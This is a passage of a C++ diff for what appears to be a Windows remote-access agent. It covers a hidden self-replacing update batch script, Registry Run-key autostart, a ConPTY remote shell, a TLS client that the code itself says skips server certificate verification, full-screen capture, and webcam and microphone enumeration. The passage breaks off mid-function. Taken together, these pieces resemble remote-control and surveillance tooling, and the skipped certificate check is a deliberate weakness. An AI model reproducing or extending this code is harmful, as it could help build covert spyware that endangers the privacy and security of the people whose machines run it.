+    COORD size = { (SHORT)cols, (SHORT)rows };
+    if (g_ResizePseudoConsole && pty->hPseudoConsole) {
+        g_ResizePseudoConsole(pty->hPseudoConsole, size);
     }
-    
-    // 4. Buat batch script yang akan:
-    //    - Tunggu process lama mati
-    //    - Replace file
-    //    - Jalankan yang baru
-    DWORD pid = GetCurrentProcessId();
-    
-    std::wstring batch = L"@echo off\r\n";
-    batch += L"timeout /t 2 /nobreak > nul\r\n";
-    batch += L":waitloop\r\n";
-    batch += L"tasklist /FI \"PID eq " + std::to_wstring(pid) + L"\" 2>NUL | find /I /N \"" + std::to_wstring(pid) + L"\">NUL\r\n";
-    batch += L"if \"%ERRORLEVEL%\"==\"0\" goto waitloop\r\n";
-    batch += L"copy /Y \"" + tempPath + L"\" \"" + currentPath + L"\"\r\n";
-    batch += L"start \"\" \"" + currentPath + L"\"\r\n";
-    batch += L"del \"%~f0\"\r\n"; // Self-delete batch
-    
-    // Tulis batch file
-    HANDLE hBatch = CreateFileW(batchPath.c_str(), GENERIC_WRITE, 0, nullptr,
-        CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, nullptr);
-    if (hBatch != INVALID_HANDLE_VALUE) {
-        std::string batchUtf8 = WideToUtf8(batch);
-        DWORD written;
-        WriteFile(hBatch, batchUtf8.c_str(), (DWORD)batchUtf8.size(), &written, nullptr);
-        CloseHandle(hBatch);
+}
+
+void PtyClose(Pty* pty) {
+    if (!pty) return;
+    if (pty->hProcess != INVALID_HANDLE_VALUE) {
+        TerminateProcess(pty->hProcess, 0);
+        CloseHandle(pty->hProcess);
     }
-    
-    // 5. Notify server lalu exit
-    json resp;
-    resp["type"] = "update_status";
-    resp["success"] = true;
-    resp["stage"] = "applying";
-    SendWsMessage(resp);
-    
-    Sleep(500); // Beri waktu message terkirim
-    
-    // Jalankan batch script
-    STARTUPINFOW si = { sizeof(STARTUPINFOW) };
-    si.wShowWindow = SW_HIDE;
-    si.dwFlags = STARTF_USESHOWWINDOW;
-    PROCESS_INFORMATION pi = {};
-    
-    std::wstring cmd = L"cmd.exe /C \"" + batchPath + L"\"";
-    CreateProcessW(nullptr, (LPWSTR)cmd.c_str(), nullptr, nullptr,
-        FALSE, CREATE_NO_WINDOW, nullptr, nullptr, &si, &pi);
-    
-    if (pi.hProcess) CloseHandle(pi.hProcess);
-    if (pi.hThread) CloseHandle(pi.hThread);
-    
-    // Exit process agar batch bisa replace file
-    g_state.running = false;
-    g_state.shouldReconnect = false;
-    ExitProcess(0);
+    if (pty->hPseudoConsole && g_ClosePseudoConsole) {
+        g_ClosePseudoConsole(pty->hPseudoConsole);
+    }
+    if (pty->hPipeIn != INVALID_HANDLE_VALUE) CloseHandle(pty->hPipeIn);
+    if (pty->hPipeOut != INVALID_HANDLE_VALUE) CloseHandle(pty->hPipeOut);
+    delete pty;
 }
 
-bool SetAutoStart(const std::wstring& appPath) {
-    if (Config::DEBUG_MODE) {
-        HKEY hKey;
-        if (RegOpenKeyExW(HKEY_CURRENT_USER,
-            L"Software\\Microsoft\\Windows\\CurrentVersion\\Run",
-            0, KEY_SET_VALUE, &hKey) == ERROR_SUCCESS) {
-            RegDeleteValueW(hKey, Config::APP_NAME);
-            RegCloseKey(hKey);
+// ============ Network ============
+
+// The completion API over an I/O completion port. A plain connection reads straight into the
+// caller's buffer and sends the caller's buffers with one gathered WSASend. TLS goes through
+// SChannel, which decrypts records in place in m_cipher and seals outgoing data into m_sealed,
+// so with TLS each direction costs one copy.
+
+namespace {
+
+const ULONG_PTR NET_KEY_SOCKET = 1;
+const ULONG_PTR NET_KEY_WAKE = 2;
+const size_t NET_CIPHER_BUFFER_BYTES = 64 * 1024; // Room for several whole TLS records
+const DWORD TLS_CONTEXT_FLAGS = ISC_REQ_SEQUENCE_DETECT | ISC_REQ_REPLAY_DETECT | ISC_REQ_CONFIDENTIALITY |
+    ISC_REQ_EXTENDED_ERROR | ISC_REQ_ALLOCATE_MEMORY | ISC_REQ_STREAM | ISC_REQ_MANUAL_CRED_VALIDATION;
+
+// Lives as long as the process, so NetWake can post to it at any time.
+HANDLE g_netPort = CreateIoCompletionPort(INVALID_HANDLE_VALUE, nullptr, 0, 1);
+
+class NetConnection {
+public:
+    ~NetConnection() {
+        if (m_socket != INVALID_SOCKET) closesocket(m_socket);
+        // Aborted operations still own their OVERLAPPED and buffers until they come off the port.
+        while (m_recvPending || m_sendPending) {
+            OVERLAPPED_ENTRY entry;
+            ULONG count = 0;
+            if (!GetQueuedCompletionStatusEx(g_netPort, &entry, 1, &count, INFINITE, FALSE)) break;
+            if (entry.lpOverlapped == &m_readOverlapped) m_recvPending = false;
+            else if (entry.lpOverlapped == &m_writeOverlapped) m_sendPending = false;
+        }
+        if (m_haveContext) DeleteSecurityContext(&m_context);
+        if (m_haveCredentials) FreeCredentialsHandle(&m_credentials);
+    }
+
+    bool Connect(const std::string& host, int port) {
+        addrinfo hints = {};
+        hints.ai_family = AF_UNSPEC;
+        hints.ai_socktype = SOCK_STREAM;
+        hints.ai_protocol = IPPROTO_TCP;
+        addrinfo* addresses = nullptr;
+        int result = getaddrinfo(host.c_str(), std::to_string(port).c_str(), &hints, &addresses);
+        if (result != 0) {
+            printf("getaddrinfo failed: %d\n", result);
+            return false;
         }
+        for (addrinfo* address = addresses; address && m_socket == INVALID_SOCKET; address = address->ai_next) {
+            m_socket = WSASocketW(address->ai_family, address->ai_socktype, address->ai_protocol, nullptr, 0,
+                WSA_FLAG_OVERLAPPED | WSA_FLAG_NO_HANDLE_INHERIT);
+            if (m_socket == INVALID_SOCKET) continue;
+            if (connect(m_socket, address->ai_addr, (int)address->ai_addrlen) == SOCKET_ERROR) {
+                closesocket(m_socket);
+                m_socket = INVALID_SOCKET;
+            }
+        }
+        freeaddrinfo(addresses);
+        if (m_socket == INVALID_SOCKET) {
+            printf("connect failed: %d\n", WSAGetLastError());
+            return false;
+        }
+        BOOL noDelay = TRUE;
+        setsockopt(m_socket, IPPROTO_TCP, TCP_NODELAY, (const char*)&noDelay, sizeof(noDelay));
         return true;
     }
 
-    if (!Config::AUTO_START) return true;
+    // Blocking, before the socket joins the completion port. Like the WinHTTP client this
+    // replaced, the server certificate is not verified.
+    bool StartTls(const std::string& host) {
+        SCHANNEL_CRED credentials = {};
+        credentials.dwVersion = SCHANNEL_CRED_VERSION;
+        credentials.dwFlags = SCH_CRED_MANUAL_CRED_VALIDATION | SCH_CRED_NO_DEFAULT_CREDS | SCH_USE_STRONG_CRYPTO;
+        SECURITY_STATUS status = AcquireCredentialsHandleW(nullptr, (LPWSTR)UNISP_NAME_W, SECPKG_CRED_OUTBOUND,
+            nullptr, &credentials, nullptr, nullptr, &m_credentials, nullptr);
+        if (status != SEC_E_OK) {
+            printf("AcquireCredentialsHandle failed: 0x%08lX\n", (unsigned long)status);
+            return false;
+        }
+        m_haveCredentials = true;
+        m_host = Utf8ToWide(host);
+        m_cipher.resize(NET_CIPHER_BUFFER_BYTES);
+        m_cipherSize = 0;
+
+        for (;;) {
+            SecBuffer inBuffers[2] = { { (ULONG)m_cipherSize, SECBUFFER_TOKEN, m_cipher.data() }, { 0, SECBUFFER_EMPTY, nullptr } };
+            SecBufferDesc inDesc = { SECBUFFER_VERSION, 2, inBuffers };
+            SecBuffer outBuffer = { 0, SECBUFFER_TOKEN, nullptr };
+            SecBufferDesc outDesc = { SECBUFFER_VERSION, 1, &outBuffer };
+            ULONG attributes = 0;
+            bool first = !m_haveContext;
+            status = InitializeSecurityContextW(&m_credentials, first ? nullptr : &m_context, (SEC_WCHAR*)m_host.c_str(),
+                TLS_CONTEXT_FLAGS, 0, 0, first ? nullptr : &inDesc, 0, first ? &m_context : nullptr, &outDesc, &attributes, nullptr);
+            if (first && (status == SEC_E_OK || status == SEC_I_CONTINUE_NEEDED)) m_haveContext = true;
+
+            if (outBuffer.cbBuffer > 0 && outBuffer.pvBuffer) {
+                bool sent = SendAll((const char*)outBuffer.pvBuffer, outBuffer.cbBuffer);
+                FreeContextBuffer(outBuffer.pvBuffer);
+                if (!sent) return false;
+            }
+            if (status == SEC_E_INCOMPLETE_MESSAGE) {
+                if (!ReceiveMore()) return false;
+                continue;
+            }
+            if (status != SEC_E_OK && status != SEC_I_CONTINUE_NEEDED) {
+                printf("TLS handshake failed: 0x%08lX\n", (unsigned long)status);
+                return false;
+            }
 
-    HKEY hKey;
-    LONG result = RegOpenKeyExW(HKEY_CURRENT_USER,
-        L"Software\\Microsoft\\Windows\\CurrentVersion\\Run",
-        0, KEY_SET_VALUE, &hKey);
+            // Bytes past the handshake message belong to the next step, or to the first record.
+            if (!first) KeepExtra(inBuffers[1].BufferType == SECBUFFER_EXTRA ? inBuffers[1].cbBuffer : 0);
+            if (status == SEC_E_OK) break;
+            if (m_cipherSize == 0 && !ReceiveMore()) return false;
+        }
 
-    if (result == ERROR_SUCCESS) {
-        std::wstring value = L"\"" + appPath + L"\"";
-        result = RegSetValueExW(hKey, Config::APP_NAME, 0, REG_SZ,
-            (const BYTE*)value.c_str(),
-            (DWORD)((value.length() + 1) * sizeof(wchar_t)));
-        RegCloseKey(hKey);
-        return (result == ERROR_SUCCESS);
+        if (QueryContextAttributesW(&m_context, SECPKG_ATTR_STREAM_SIZES, &m_sizes) != SEC_E_OK) return false;
+        m_tls = true;
+        return Decrypt();
     }
-    return false;
-}
 
-bool CreateConPTY() {
-    printf("Loading ConPTY API...\n");
-    if (!LoadConPTYAPI()) {
-        printf("ConPTY not supported (need Windows 10 1809+)\n");
-        return false;
+    bool StartRead(void* buffer, size_t size) {
+        m_readBuffer = (char*)buffer;
+        m_readSize = size;
+        if (!m_tls) return PostRecv(buffer, size);
+        if (DeliverPlain()) return true;
+        return PostRecv(m_cipher.data() + m_cipherSize, m_cipher.size() - m_cipherSize);
     }
 
-    SECURITY_ATTRIBUTES sa;
-    sa.nLength = sizeof(SECURITY_ATTRIBUTES);
-    sa.bInheritHandle = TRUE;
-    sa.lpSecurityDescriptor = NULL;
+    bool StartWrite(const NetBuffer* buffers, size_t count) {
+        m_sendBuffers.clear();
+        m_sendIndex = 0;
+        if (m_tls) {
+            if (!Seal(buffers, count)) return false;
+            m_sendBuffers.push_back({ (ULONG)m_sealed.size(), m_sealed.data() });
+        } else {
+            for (size_t i = 0; i < count; i++) {
+                if (buffers[i].size > 0) m_sendBuffers.push_back({ (ULONG)buffers[i].size, (CHAR*)buffers[i].data });
+            }
+        }
+        if (m_sendBuffers.empty()) {
+            m_writeReady = true;
+            return true;
+        }
+        return PostSend();
+    }
 
-    HANDLE hPipePTYIn = NULL;
-    HANDLE hPipePTYOut = NULL;
+    // Operations that finished without the socket: a read served from already decrypted data,
+    // or an empty write.
+    bool TakeReady(NetEvents& events) {
+        if (m_readReady) {
+            events.readDone = true;
+            events.readBytes = m_readReadyBytes;
+            m_readReady = false;
+        }
+        if (m_writeReady) {
+            events.writeDone = true;
+            m_writeReady = false;
+        }
+        return events.readDone || events.writeDone;
+    }
 
-    if (!CreatePipe(&hPipePTYIn, &g_state.hPipeOut, &sa, 0)) {
-        printf("Failed to create output pipe: %d\n", GetLastError());
-        return false;
+    void OnCompletion(OVERLAPPED* overlapped, NetEvents& events) {
+        DWORD bytes = 0;
+        DWORD flags = 0;
+        if (overlapped == &m_readOverlapped) {
+            m_recvPending = false;
+            if (!WSAGetOverlappedResult(m_socket, overlapped, &bytes, FALSE, &flags)) {
+                events.failed = true;
+            } else if (!m_tls || bytes == 0) {
+                events.readDone = true;
+                events.readBytes = bytes;
+            } else {
+                m_cipherSize += bytes;
+                if (!Decrypt()) {
+                    events.failed = true;
+                } else if (DeliverPlain()) {
+                    TakeReady(events);
+                } else if (m_cipherSize == m_cipher.size() || !PostRecv(m_cipher.data() + m_cipherSize, m_cipher.size() - m_cipherSize)) {
+                    events.failed = true;        // Only part of a record so far; more was asked for
+                }
+            }
+        } else if (overlapped == &m_writeOverlapped) {
+            m_sendPending = false;
+            if (!WSAGetOverlappedResult(m_socket, overlapped, &bytes, FALSE, &flags)) {
+                events.failed = true;
+                return;
+            }
+            // A send completes whole unless the connection fails; a short one is finished off.
+            while (bytes > 0 && m_sendIndex < m_sendBuffers.size()) {
+                WSABUF& piece = m_sendBuffers[m_sendIndex];
+                ULONG take = std::min<ULONG>(bytes, piece.len);
+                piece.buf += take;
+                piece.len -= take;
+                bytes -= take;
+                if (piece.len == 0) m_sendIndex++;
+            }
+            if (m_sendIndex == m_sendBuffers.size()) events.writeDone = true;
+            else if (!PostSend()) events.failed = true;
+        }
     }
 
-    if (!CreatePipe(&g_state.hPipeIn, &hPipePTYOut, &sa, 0)) {
-        printf("Failed to create input pipe: %d\n", GetLastError());
-        CloseHandle(hPipePTYIn);
-        CloseHandle(g_state.hPipeOut);
-        return false;
+    SOCKET socket() const { return m_socket; }
+
+private:
+    bool PostRecv(void* buffer, size_t size) {
+        WSABUF piece = { (ULONG)std::min<size_t>(size, MAXLONG), (CHAR*)buffer };
+        DWORD flags = 0;
+        ZeroMemory(&m_readOverlapped, sizeof(m_readOverlapped));
+        if (WSARecv(m_socket, &piece, 1, nullptr, &flags, &m_readOverlapped, nullptr) == SOCKET_ERROR &&
+            WSAGetLastError() != WSA_IO_PENDING) {
+            return false;
+        }
+        m_recvPending = true;
+        return true;
     }
 
-    SetHandleInformation(g_state.hPipeIn, HANDLE_FLAG_INHERIT, 0);
-    SetHandleInformation(g_state.hPipeOut, HANDLE_FLAG_INHERIT, 0);
+    bool PostSend() {
+        ZeroMemory(&m_writeOverlapped, sizeof(m_writeOverlapped));
+        if (WSASend(m_socket, &m_sendBuffers[m_sendIndex], (DWORD)(m_sendBuffers.size() - m_sendIndex), nullptr, 0,
+            &m_writeOverlapped, nullptr) == SOCKET_ERROR && WSAGetLastError() != WSA_IO_PENDING) {
+            return false;
+        }
+        m_sendPending = true;
+        return true;
+    }
 
-    printf("Pipes created\n");
+    // Hands decrypted bytes (or the end of the stream) to the waiting read.
+    bool DeliverPlain() {
+        if (m_plainPos < m_plain.size()) {
+            size_t take = std::min(m_readSize, m_plain.size() - m_plainPos);
+            memcpy(m_readBuffer, m_plain.data() + m_plainPos, take);
+            m_plainPos += take;
+            if (m_plainPos == m_plain.size()) {
+                m_plain.clear();
+                m_plainPos = 0;
+            }
+            m_readReadyBytes = take;
+        } else if (m_peerClosed) {
+            m_readReadyBytes = 0;
+        } else {
+            return false;
+        }
+        m_readReady = true;
+        return true;
+    }
 
-    COORD consoleSize;
-    consoleSize.X = (SHORT)Config::CONSOLE_WIDTH;
-    consoleSize.Y = (SHORT)Config::CONSOLE_HEIGHT;
+    // Decrypts every whole record at the front of m_cipher into m_plain.
+    bool Decrypt() {
+        while (m_cipherSize > 0 && !m_peerClosed) {
+            SecBuffer buffers[4] = {
+                { (ULONG)m_cipherSize, SECBUFFER_DATA, m_cipher.data() },
+                { 0, SECBUFFER_EMPTY, nullptr }, { 0, SECBUFFER_EMPTY, nullptr }, { 0, SECBUFFER_EMPTY, nullptr },
+            };
+            SecBufferDesc desc = { SECBUFFER_VERSION, 4, buffers };
+            SECURITY_STATUS status = DecryptMessage(&m_context, &desc, 0, nullptr);
+            if (status == SEC_E_INCOMPLETE_MESSAGE) return true;
+            if (status == SEC_I_CONTEXT_EXPIRED) {
+                m_peerClosed = true;             // close_notify
+                m_cipherSize = 0;
+                return true;
+            }
+            if (status != SEC_E_OK && status != SEC_I_RENEGOTIATE) return false;
+
+            ULONG extra = 0;
+            for (const SecBuffer& buffer : buffers) {
+                if (buffer.BufferType == SECBUFFER_DATA && buffer.cbBuffer > 0) {
+                    const char* plain = (const char*)buffer.pvBuffer;
+                    m_plain.insert(m_plain.end(), plain, plain + buffer.cbBuffer);
+                } else if (buffer.BufferType == SECBUFFER_EXTRA) {
+                    extra = buffer.cbBuffer;
+                }
+            }
+            KeepExtra(extra);
+            if (status == SEC_I_RENEGOTIATE && !ContinueHandshake()) return false;
+        }
+        return true;
+    }
 
-    HRESULT hr = g_CreatePseudoConsole(
-        consoleSize,
-        hPipePTYIn,
-        hPipePTYOut,
-        0,
-        &g_state.hPseudoConsole
-    );
+    // TLS 1.3 post-handshake messages (session tickets, key updates) surface as
+    // SEC_I_RENEGOTIATE and go back through InitializeSecurityContext. Any answer is sent
+    // blocking; it is a few bytes and this is rare.
+    bool ContinueHandshake() {
+        SecBuffer inBuffers[2] = { { (ULONG)m_cipherSize, SECBUFFER_TOKEN, m_cipher.data() }, { 0, SECBUFFER_EMPTY, nullptr } };
+        SecBufferDesc inDesc = { SECBUFFER_VERSION, 2, inBuffers };
+        SecBuffer outBuffer = { 0, SECBUFFER_TOKEN, nullptr };
+        SecBufferDesc outDesc = { SECBUFFER_VERSION, 1, &outBuffer };
+        ULONG attributes = 0;
+        SECURITY_STATUS status = InitializeSecurityContextW(&m_credentials, &m_context, (SEC_WCHAR*)m_host.c_str(),
+            TLS_CONTEXT_FLAGS, 0, 0, &inDesc, 0, nullptr, &outDesc, &attributes, nullptr);
+        if (outBuffer.cbBuffer > 0 && outBuffer.pvBuffer) {
+            bool sent = SendAll((const char*)outBuffer.pvBuffer, outBuffer.cbBuffer);
+            FreeContextBuffer(outBuffer.pvBuffer);
+            if (!sent) return false;
+        }
+        if (status == SEC_E_INCOMPLETE_MESSAGE) return true;
+        if (status != SEC_E_OK && status != SEC_I_CONTINUE_NEEDED) return false;
+        KeepExtra(inBuffers[1].BufferType == SECBUFFER_EXTRA ? inBuffers[1].cbBuffer : 0);
+        return true;
+    }
 
-    if (FAILED(hr)) {
-        printf("CreatePseudoConsole failed: 0x%08X\n", hr);
-        CloseHandle(hPipePTYIn);
-        CloseHandle(hPipePTYOut);
-        CloseHandle(g_state.hPipeIn);
-        CloseHandle(g_state.hPipeOut);
+    // Encrypts the gathered buffers as records of at most cbMaximumMessage bytes, each laid
+    // out header, data, trailer in m_sealed.
+    bool Seal(const NetBuffer* buffers, size_t count) {
+        size_t total = 0;
+        for (size_t i = 0; i < count; i++) total += buffers[i].size;
+        size_t records = (total + m_sizes.cbMaximumMessage - 1) / m_sizes.cbMaximumMessage;
+        m_sealed.resize(total + records * (m_sizes.cbHeader + m_sizes.cbTrailer));
+
+        size_t out = 0;
+        size_t piece = 0;
+        size_t pieceOffset = 0;
+        while (total > 0) {
+            size_t length = std::min<size_t>(total, m_sizes.cbMaximumMessage);
+            char* record = m_sealed.data() + out;
+            for (size_t copied = 0; copied < length;) {
+                const NetBuffer& source = buffers[piece];
+                size_t take = std::min(length - copied, source.size - pieceOffset);
+                memcpy(record + m_sizes.cbHeader + copied, (const char*)source.data + pieceOffset, take);
+                copied += take;
+                pieceOffset += take;
+                if (pieceOffset == source.size) {
+                    piece++;
+                    pieceOffset = 0;
+                }
+            }
+
+            SecBuffer parts[4] = {
+                { m_sizes.cbHeader, SECBUFFER_STREAM_HEADER, record },
+                { (ULONG)length, SECBUFFER_DATA, record + m_sizes.cbHeader },
+                { m_sizes.cbTrailer, SECBUFFER_STREAM_TRAILER, record + m_sizes.cbHeader + length },
+                { 0, SECBUFFER_EMPTY, nullptr },
+            };
+            SecBufferDesc desc = { SECBUFFER_VERSION, 4, parts };
+            if (EncryptMessage(&m_context, 0, &desc, 0) != SEC_E_OK) return false;
+            // The trailer can come out shorter than cbTrailer; the next record starts right after it.
+            out += parts[0].cbBuffer + parts[1].cbBuffer + parts[2].cbBuffer;
+            total -= length;
+        }
+        m_sealed.resize(out);
+        return true;
+    }
+
+    void KeepExtra(size_t extra) {
+        memmove(m_cipher.data(), m_cipher.data() + m_cipherSize - extra, extra);
+        m_cipherSize = extra;
+    }
+
+    bool ReceiveMore() {
+        if (m_cipherSize == m_cipher.size()) return false;
+        int received = recv(m_socket, m_cipher.data() + m_cipherSize, (int)(m_cipher.size() - m_cipherSize), 0);
+        if (received <= 0) return false;
+        m_cipherSize += (size_t)received;
+        return true;
+    }
+
+    bool SendAll(const char* data, size_t size) {
+        while (size > 0) {
+            int sent = send(m_socket, data, (int)std::min<size_t>(size, INT_MAX), 0);
+            if (sent == SOCKET_ERROR) return false;
+            data += sent;
+            size -= (size_t)sent;
+        }
+        return true;
+    }
+
+    SOCKET m_socket = INVALID_SOCKET;
+
+    OVERLAPPED m_readOverlapped = {};
+    char* m_readBuffer = nullptr;
+    size_t m_readSize = 0;
+    bool m_recvPending = false;
+    bool m_readReady = false;
+    size_t m_readReadyBytes = 0;
+
+    OVERLAPPED m_writeOverlapped = {};
+    std::vector<WSABUF> m_sendBuffers;
+    size_t m_sendIndex = 0;
+    bool m_sendPending = false;
+    bool m_writeReady = false;
+
+    // TLS
+    bool m_tls = false;
+    std::wstring m_host;
+    CredHandle m_credentials = {};
+    CtxtHandle m_context = {};
+    bool m_haveCredentials = false;
+    bool m_haveContext = false;
+    SecPkgContext_StreamSizes m_sizes = {};
+    std::vector<char> m_cipher;                  // Received records not yet decrypted
+    size_t m_cipherSize = 0;
+    std::vector<char> m_plain;                   // Decrypted bytes not yet read
+    size_t m_plainPos = 0;
+    bool m_peerClosed = false;
+    std::vector<char> m_sealed;
+};
+
+NetConnection* g_net = nullptr;
+
+} // namespace
+
+bool NetConnect(const std::string& host, int port, bool useTls) {
+    NetConnection* connection = new NetConnection();
+    if (!connection->Connect(host, port) || (useTls && !connection->StartTls(host)) ||
+        !CreateIoCompletionPort((HANDLE)connection->socket(), g_netPort, NET_KEY_SOCKET, 0)) {
+        delete connection;
         return false;
     }
+    g_net = connection;
+    return true;
+}
+
+bool NetStartRead(void* buffer, size_t size) {
+    return g_net && size > 0 && g_net->StartRead(buffer, size);
+}
+
+bool NetStartWrite(const NetBuffer* buffers, size_t count) {
+    return g_net && g_net->StartWrite(buffers, count);
+}
+
+void NetWait(int timeoutMs, NetEvents& events) {
+    events = NetEvents();
+    if (g_net && g_net->TakeReady(events)) return;
+
+    OVERLAPPED_ENTRY entries[4];
+    ULONG count = 0;
+    if (!GetQueuedCompletionStatusEx(g_netPort, entries, 4, &count, (DWORD)std::max(timeoutMs, 0), FALSE)) return;
+    for (ULONG i = 0; i < count; i++) {
+        if (entries[i].lpCompletionKey == NET_KEY_SOCKET && g_net) g_net->OnCompletion(entries[i].lpOverlapped, events);
+    }
+}
+
+void NetWake() {
+    PostQueuedCompletionStatus(g_netPort, 0, NET_KEY_WAKE, nullptr);
+}
+
+void NetClose() {
+    delete g_net;
+    g_net = nullptr;
+}
+
+// ============ Media ============
+
+int GetEncoderClsid(const WCHAR* format, CLSID* pClsid) {
+    UINT  num = 0;          // number of image encoders
+    UINT  size = 0;         // size of the image encoder array in bytes
+
+    GetImageEncodersSize(&num, &size);
+    if (size == 0) return -1;  // Failure
+
+    ImageCodecInfo* pImageCodecInfo = (ImageCodecInfo*)(malloc(size));
+    if (pImageCodecInfo == NULL) return -1;  // Failure
+
+    GetImageEncoders(num, size, pImageCodecInfo);
+
+    for (UINT j = 0; j < num; ++j) {
+        if (wcscmp(pImageCodecInfo[j].MimeType, format) == 0) {
+            *pClsid = pImageCodecInfo[j].Clsid;
+            free(pImageCodecInfo);
+            return j;  // Success
+        }
+    }
+
+    free(pImageCodecInfo);
+    return -1;  // Failure
+}
+
+std::vector<BYTE> CaptureScreenPng() {
+    int x1 = GetSystemMetrics(SM_XVIRTUALSCREEN);
+    int y1 = GetSystemMetrics(SM_YVIRTUALSCREEN);
+    int x2 = GetSystemMetrics(SM_CXVIRTUALSCREEN);
+    int y2 = GetSystemMetrics(SM_CYVIRTUALSCREEN);
+
+    HDC hScreen = GetDC(NULL);
+    HDC hDC = CreateCompatibleDC(hScreen);
+    HBITMAP hBitmap = CreateCompatibleBitmap(hScreen, x2, y2);
+    HGDIOBJ old_obj = SelectObject(hDC, hBitmap);
+
+    BitBlt(hDC, 0, 0, x2, y2, hScreen, x1, y1, SRCCOPY);
+
+    // Draw mouse cursor
+    CURSORINFO ci = { sizeof(CURSORINFO) };
+    if (GetCursorInfo(&ci) && (ci.flags & CURSOR_SHOWING)) {
+        ICONINFO ii = { sizeof(ICONINFO) };
+        if (GetIconInfo(ci.hCursor, &ii)) {
+            DrawIcon(hDC, ci.ptScreenPos.x - x1 - ii.xHotspot, ci.ptScreenPos.y - y1 - ii.yHotspot, ci.hCursor);
+            if (ii.hbmMask) DeleteObject(ii.hbmMask);
+            if (ii.hbmColor) DeleteObject(ii.hbmColor);
+        }
+    }
+
+    // Create GDI+ Bitmap from HBITMAP
+    Bitmap* bitmap = new Bitmap(hBitmap, NULL);
+
+    // Save to memory stream
+    IStream* pStream = NULL;
+    CreateStreamOnHGlobal(NULL, TRUE, &pStream);
+
+    CLSID clsid;
+    GetEncoderClsid(L"image/png", &clsid);
+
+    // Resize down if too big to save bandwidth (Optional, keeping full res for now but good to note)
+    // For now we'll save as PNG to the stream
+    bitmap->Save(pStream, &clsid, NULL);
+
+    // Get bytes from stream
+    LARGE_INTEGER liZero = {};
+    ULARGE_INTEGER pos = {};
+    pStream->Seek(liZero, STREAM_SEEK_SET, &pos);
+
+    // Get size
+    STATSTG statstg;
+    pStream->Stat(&statstg, STATFLAG_NONAME);
+    ULONG streamSize = (ULONG)statstg.cbSize.QuadPart;
+
+    std::vector<BYTE> buffer(streamSize);
+    ULONG bytesRead;
+    pStream->Seek(liZero, STREAM_SEEK_SET, &pos);
+    pStream->Read(buffer.data(), streamSize, &bytesRead);
+
+    // Clean up
+    pStream->Release();
+    delete bitmap;
+    SelectObject(hDC, old_obj);
+    DeleteObject(hBitmap);
+    DeleteDC(hDC);
+    ReleaseDC(NULL, hScreen);
+
+    return buffer;
+}
+
+std::vector<std::string> EnumerateWebcams() {
+    std::vector<std::string> devices;
+    if (FAILED(MFStartup(MF_VERSION))) return devices;
+
+    IMFAttributes* pAttributes = nullptr;
+    if (SUCCEEDED(MFCreateAttributes(&pAttributes, 1))) {
+        pAttributes->SetGUID(MF_DEVSOURCE_ATTRIBUTE_SOURCE_TYPE, MF_DEVSOURCE_ATTRIBUTE_SOURCE_TYPE_VIDCAP_GUID);
+
+        IMFActivate** ppDevices = nullptr;
+        UINT32 count = 0;
+        if (SUCCEEDED(MFEnumDeviceSources(pAttributes, &ppDevices, &count))) {
+            for (UINT32 i = 0; i < count; i++) {
+                WCHAR* name = nullptr;
+                UINT32 length = 0;
+                if (SUCCEEDED(ppDevices[i]->GetAllocatedString(MF_DEVSOURCE_ATTRIBUTE_FRIENDLY_NAME, &name, &length))) {
+                    char buf[512];
+                    WideCharToMultiByte(CP_UTF8, 0, name, -1, buf, sizeof(buf), nullptr, nullptr);
+                    devices.push_back(std::string(buf));
+                    CoTaskMemFree(name);
+                } else {
+                    devices.push_back("Camera " + std::to_string(i + 1));
+                }
+                ppDevices[i]->Release();
+            }
+            CoTaskMemFree(ppDevices);
+        }
+        pAttributes->Release();
+    }
+    MFShutdown();
+    return devices;
+}
+
+std::vector<std::string> EnumerateMicrophones() {
+    std::vector<std::string> devices;
+    HRESULT hrCoInit = CoInitializeEx(NULL, COINIT_MULTITHREADED);
+
+    IMMDeviceEnumerator* pEnumerator = nullptr;
+    if (SUCCEEDED(CoCreateInstance(__uuidof(MMDeviceEnumerator), NULL, CLSCTX_ALL, __uuidof(IMMDeviceEnumerator), (void**)&pEnumerator))) {
+        IMMDeviceCollection* pCollection = nullptr;
+        if (SUCCEEDED(pEnumerator->EnumAudioEndpoints(eCapture, DEVICE_STATE_ACTIVE, &pCollection))) {
+            UINT count = 0;
+            pCollection->GetCount(&count);
+            for (UINT i = 0; i < count; i++) {
+                IMMDevice* pEndpoint = nullptr;
+                if (SUCCEEDED(pCollection->Item(i, &pEndpoint))) {
+                    IPropertyStore* pProps = nullptr;
+                    if (SUCCEEDED(pEndpoint->OpenPropertyStore(STGM_READ, &pProps))) {
+                        PROPVARIANT varName;
+                        PropVariantInit(&varName);
+                        if (SUCCEEDED(pProps->GetValue(PKEY_Device_FriendlyName, &varName))) {
+                            char buf[512];
+                            WideCharToMultiByte(CP_UTF8, 0, varName.pwszVal, -1, buf, sizeof(buf), nullptr, nullptr);
+                            devices.push_back(std::string(buf));
+                            PropVariantClear(&varName);
+                        } else {
+                           devices.push_back("Microphone " + std::to_string(i+1));
+                        }
+                        pProps->Release();
+                    }
+                    pEndpoint->Release();
+                }
+            }
+            pCollection->Release();
+        }
+        pEnumerator->Release();
+    }
+    if (SUCCEEDED(hrCoInit)) CoUninitialize();
+    return devices;
+}
 
-    printf("ConPTY created\n");
+std::vector<BYTE> CaptureScreenBytes(int quality) {
+    HDC hScreen = GetDC(NULL);
+    HDC hDC = CreateCompatibleDC(hScreen);
+    
+    int x1 = GetSystemMetrics(SM_XVIRTUALSCREEN);
+    int y1 = GetSystemMetrics(SM_YVIRTUALSCREEN);
+    int x2 = GetSystemMetrics(SM_CXVIRTUALSCREEN);
+    int y2 = GetSystemMetrics(SM_CYVIRTUALSCREEN);
 
-    SIZE_T attributeListSize = 0;
-    InitializeProcThreadAttributeList(NULL, 1, 0, &attributeListSize);
+    HBITMAP hBitmap = CreateCompatibleBitmap(hScreen, x2, y2);
+    HGDIOBJ old_obj = SelectObject(hDC, hBitmap);
 
-    PPROC_THREAD_ATTRIBUTE_LIST attributeList = (PPROC_THREAD_ATTRIBUTE_LIST)
-        HeapAlloc(GetProcessHeap(), 0, attributeListSize);
+    BitBlt(hDC, 0, 0, x2, y2, hScreen, x1, y1, SRCCOPY);
 
-    if (!attributeList) {
-        printf("Failed to allocate attribute list\n");
-        g_ClosePseudoConsole(g_state.hPseudoConsole);
-        CloseHandle(hPipePTYIn);
-        CloseHandle(hPipePTYOut);
-        return false;
+    // Draw mouse cursor
+    CURSORINFO ci = { sizeof(CURSORINFO) };
+    if (GetCursorInfo(&ci) && (ci.flags & CURSOR_SHOWING)) {
